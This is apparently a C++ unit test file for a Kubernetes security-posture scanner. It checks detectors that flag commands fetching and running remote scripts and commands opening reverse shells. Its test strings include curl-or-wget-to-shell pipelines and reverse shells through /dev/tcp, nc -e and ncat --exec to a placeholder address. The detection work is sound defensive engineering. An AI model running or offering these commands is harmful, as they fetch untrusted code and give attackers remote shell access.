#include "posture/commands.h"

#include <gtest/gtest.h>

#include <array>
#include <string>
#include <vector>

namespace bulwark::posture {
namespace {

TEST(Commands, RunsDownload) {
  for (const std::string_view command : {
           "curl -sSL https://get.example.com | bash",
           "apk add curl; curl https://get.example.com|sh -s -- --yes",
           "wget -qO- https://get.example.com | sudo bash -",
           "/usr/bin/curl https://get.example.com/x.gz | gunzip | /bin/sh",
           "curl https://get.example.com \\\n  | python3 -",
           "curl https://get.example.com | env -i bash",
           "curl https://get.example.com | bash -ex; echo done",
           "curl https://get.example.com | sudo -E bash --login",
           "(curl https://get.example.com | sh)",
           "curl https://get.example.com | python3",
           "sh -c \"$(curl -fsSL https://get.example.com)\"",
           "$(curl -fsSL https://get.example.com)",
           "bash <(curl -s https://get.example.com)",
           "source <(curl -s https://get.example.com)",
           "eval \"$(wget -qO- https://get.example.com)\"",
       }) {
    EXPECT_TRUE(runs_download(command)) << command;
  }
  for (const std::string_view command : {
           "",
           "curl -sf http://localhost:8080/healthz",
           "curl http://localhost/ | grep ok",
           "curl http://localhost/ || bash fallback.sh",
           "curl -o /data/x https://files.example.com/x; cat /data/list | sh",
           "curl http://a.example.com && ls | sh",
           "echo curling | sh",
           "cat libcurl.txt | sh",
           "curl http://localhost/ | shasum",
           "curl http://localhost/ | jq .node",
           "curl http://localhost/ | python3 -m json.tool",
           "curl http://localhost/ | python -c 'import json, sys; print(json.load(sys.stdin))'",
           "curl http://localhost/ | node -pe 'JSON.parse(0)'",
           "curl http://localhost/ | bash -c 'cat'",
           "curl http://localhost/ | sh /scripts/count.sh",
           "VERSION=$(curl -s https://api.example.com/version)",
           "test \"$(curl -s localhost)\" = ok",
           "curl",
           "|",
       }) {
    EXPECT_FALSE(runs_download(command)) << command;
  }
}

TEST(Commands, ReverseShell) {
  for (const std::string_view command : {
           "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
           "0<&196;exec 196<>/dev/udp/203.0.113.7/4444; /bin/sh -i <&196",
           "nc -e /bin/sh 203.0.113.7 4444",
           "/usr/bin/ncat --exec /bin/bash 203.0.113.7 4444",
       }) {
    EXPECT_TRUE(is_reverse_shell(command)) << command;
  }
  for (const std::string_view command : {
           "until (echo > /dev/tcp/db/5432); do sleep 1; done",
           "timeout 1 bash -c '</dev/tcp/db/5432'",
           "until (echo > /dev/tcp/db/22); do sleep 1; done; ssh -i /key db",
           "nc -z db 5432",
           "rsync -e ssh a b",
           "",
       }) {
    EXPECT_FALSE(is_reverse_shell(command)) << command;
  }
}

TEST(Commands, EveryCommandOfAContainer) {
  const std::array<std::string_view, 2> command{"a", "b"};
  const std::array<std::string_view, 1> args{"c"}, live{"d"}, start{"e"}, stop{"f"};
  const kube::ExecAction live_exec{live}, start_exec{start}, stop_exec{stop};
  kube::Probe liveness, readiness;
  liveness.exec = &live_exec;
  kube::LifecycleHandler post_start, pre_stop;
  post_start.exec = &start_exec;
  pre_stop.exec = &stop_exec;
  kube::Lifecycle lifecycle{&post_start, &pre_stop};
  kube::Container container;
  container.command = command;
  container.args = args;
  container.liveness_probe = &liveness;
  container.readiness_probe = &readiness;
  container.lifecycle = &lifecycle;
  const kube::Object object;
  const kube::PodSpec spec;
  const kube::ObjectMeta metadata;
  const PodView pod{object, spec, metadata, {}, {1, 36}};
  std::vector<std::string> seen;
  for_each_command(
      ContainerView{pod, container, ContainerRole::ordinary, 0},
      [&](std::string_view text, auto&& path) { seen.push_back(path().text() + "=" + std::string(text)); });
  EXPECT_EQ(seen, (std::vector<std::string>{"spec.containers[0].command[0]=a", "spec.containers[0].command[1]=b",
                                            "spec.containers[0].args[0]=c",
                                            "spec.containers[0].livenessProbe.exec.command[0]=d",
                                            "spec.containers[0].lifecycle.postStart.exec.command[0]=e",
                                            "spec.containers[0].lifecycle.preStop.exec.command[0]=f"}));
}

}  // namespace
}  // namespace bulwark::posture
